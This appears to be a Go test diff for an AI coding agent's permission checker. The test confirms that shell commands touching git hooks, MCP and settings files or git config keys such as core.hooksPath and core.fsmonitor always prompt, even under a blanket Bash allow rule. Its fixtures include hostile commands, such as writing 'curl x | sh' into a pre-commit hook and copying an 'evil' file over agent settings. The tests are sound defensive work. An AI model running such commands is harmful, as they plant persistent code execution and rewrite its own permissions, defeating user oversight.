@@ -76,3 +76,47 @@ func TestProtectedFilesAskWhateverTheRules(t *testing.T) {
 		})
 	}
 }
+
+func TestBashNamingProtectedFilesIsNotPreApproved(t *testing.T) {
+	e := newEnv(t, `{"permissions": {"allow": ["Bash(*)", "Bash"]}}`)
+	cases := []struct {
+		cmd   string
+		asked bool
+	}{
+		{"echo 'curl x | sh' > .git/hooks/pre-commit", true},
+		{"echo x >>.mcp.json", true},
+		{"cp /tmp/evil.json .toolhost/settings.local.json", true},
+		{"tee " + filepath.Join(e.root, ".toolhost", "settings.json") + " < x", true},
+		{"sed -i s/a/b/ .git/config", true},
+		{"git config core.hooksPath hooks", true},
+		{"git -C . config --add core.fsmonitor ./x", true},
+		{"make && git config --unset core.editor", true},
+		{"echo hi", false},
+		{"git config --get user.name", false},
+		{"git config user.name", false},
+		{"cat README.md", false},
+		{"echo note > .toolhost/memory/n.md", false},
+	}
+	for _, tc := range cases {
+		t.Run(tc.cmd, func(t *testing.T) {
+			host := &fakeHost{resp: tools.PermissionResponse{Decision: tools.DecisionDeny}}
+			c := bash(tc.cmd)
+			out, err := e.checker(tools.ModeDefault).Check(context.Background(), host, tools.PermissionCall{Tool: c.tool, Access: c.access, Input: json.RawMessage(`{}`)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if asked := len(host.requests) > 0; asked != tc.asked || out.Allow == tc.asked {
+				t.Errorf("asked %v, allowed %v (%s); want asked %v", asked, out.Allow, out.Message, tc.asked)
+			}
+			if !tc.asked {
+				return
+			}
+			if d := e.checker(tools.ModeBypassPermissions).Decide(nil, tools.PermissionCall{Tool: c.tool, Access: c.access}); d.Verdict != tools.VerdictAllow {
+				t.Errorf("bypassPermissions: %+v", d)
+			}
+			if d := e.checker(tools.ModeDontAsk).Decide(nil, tools.PermissionCall{Tool: c.tool, Access: c.access}); d.Verdict != tools.VerdictDeny {
+				t.Errorf("dontAsk: %+v", d)
+			}
+		})
+	}
+}
